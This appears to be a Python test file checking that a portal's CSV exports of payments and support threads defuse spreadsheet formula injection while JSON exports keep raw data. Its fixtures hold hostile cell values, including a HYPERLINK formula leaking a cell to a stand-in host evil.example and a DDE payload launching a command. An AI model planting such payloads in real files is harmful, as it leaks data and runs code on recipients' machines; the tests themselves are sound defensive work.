"""Every CSV the portal writes is safe to open in a spreadsheet: a hostile text comes out as text (a
leading quote), amounts stay numbers. One test per export."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime

from espace.billing import exports
from espace.billing.models import Payment
from espace.core.formatting import PARIS
from espace.privacy import export
from espace.support import threads as support
from tests import factories

HOSTILE_SUBJECT = '=HYPERLINK("https://evil.example/?"&A1;"Remboursement")'
HOSTILE_BODY = "+cmd|' /C calc'!A0"


def _table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_payment_csv_neutralises_text_cells_and_keeps_amounts_numeric(db):
    person = factories.holder(db)
    contract = factories.contract(db, person, number="@SUM(A1)")
    paid = datetime(2026, 3, 5, 9, 0, tzinfo=PARIS)
    db.add(
        Payment(
            contract_id=contract.id,
            holder_id=person.id,
            due_date=date(2026, 3, 5),
            period_start=date(2026, 3, 1),
            period_end=date(2026, 3, 31),
            amount_cents=1553,
            tax_cents=128,
            status="paid",
            paid_at=paid,
            method="=1+1",
        )
    )
    db.add(
        Payment(
            contract_id=contract.id,
            holder_id=person.id,
            due_date=date(2026, 3, 6),
            period_start=date(2026, 3, 1),
            period_end=date(2026, 3, 31),
            amount_cents=-500,
            tax_cents=-41,
            status="paid",
            paid_at=paid,
            method="card",
        )
    )
    db.flush()
    table = _table(
        exports.export_csv(
            session=db, holder_id=person.id, start=date(2026, 3, 1), end=date(2026, 3, 31)
        )
    )
    first, refund, total = table[1], table[2], table[-1]
    assert first[2] == "'@SUM(A1)" and first[4] == "'=1+1"
    assert (first[6], first[7]) == ("15,53", "1,28")
    assert (refund[6], refund[7]) == (
        "-5,00",
        "-0,41",
    )  # a negative amount is a number, not a formula
    assert total[6:] == ["10,53", "0,87"]


def test_privacy_export_csv_neutralises_subjects_and_messages_but_json_keeps_them(db):
    person = factories.holder(db)
    support.open_thread(
        session=db,
        holder_id=person.id,
        subject=HOSTILE_SUBJECT,
        category="contract",
        body=HOSTILE_BODY,
    )
    archive = zipfile.ZipFile(io.BytesIO(export.export_zip(session=db, holder_id=person.id)))
    threads = _table(archive.read("support_thread.csv"))
    subject = threads[0].index("subject")
    assert threads[1][subject] == "'" + HOSTILE_SUBJECT
    messages = _table(archive.read("support_message.csv"))
    assert messages[1][messages[0].index("body")] == "'" + HOSTILE_BODY
    ids = [row[messages[0].index("id")] for row in messages[1:]]
    assert all(value.isdigit() for value in ids)  # numbers are untouched
    # The JSON files are for programs: the data as it is.
    assert json.loads(archive.read("support_thread.json"))[0]["subject"] == HOSTILE_SUBJECT
    assert json.loads(archive.read("support_message.json"))[0]["body"] == HOSTILE_BODY
